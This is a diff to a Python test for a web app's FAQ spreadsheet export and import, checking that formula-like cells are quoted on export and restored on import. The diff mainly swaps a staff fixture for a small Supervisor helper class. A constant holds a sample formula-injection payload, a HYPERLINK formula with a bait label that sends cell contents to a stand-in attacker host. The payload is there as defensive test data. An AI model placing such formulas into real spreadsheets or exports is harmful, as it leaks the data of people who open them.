@@ -13,7 +13,7 @@ from openpyxl import load_workbook
 from models import FaqEntry
 from scrm.spreadsheet import safe_cell, unescape_cell
 from tests.conftest import login_as
-from tests.web.conftest import browsers, rows, staff  # noqa: F401 (fixtures)
+from tests.web.conftest import rows
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击领取")'
 TRICKY = {  # field -> a value starting with each character a spreadsheet would run
@@ -28,8 +28,19 @@ def _starts_like_formula(value: Any) -> bool:
     return isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r")
 
 
-async def test_faq_exports_quote_formulas_and_import_restores_them(client: Any, staff: Any) -> None:
-    supervisor = await staff("supervisor")
+class Supervisor:
+    def __init__(self, client: Any, headers: dict[str, str]) -> None:
+        self.client, self.headers = client, headers
+
+    async def get(self, path: str) -> Any:
+        return await self.client.get("/api/v1" + path)
+
+    async def post(self, path: str, **kw: Any) -> Any:
+        return await self.client.post("/api/v1" + path, headers=self.headers, **kw)
+
+
+async def test_faq_exports_quote_formulas_and_import_restores_them(client: Any) -> None:
+    supervisor = Supervisor(client, await login_as(client, "supervisor"))
     made = await supervisor.post("/admin/faqs", json={**TRICKY, "category": "售后"})
     assert made.status == 201, await made.text()
     faq_id = (await made.json())["id"]
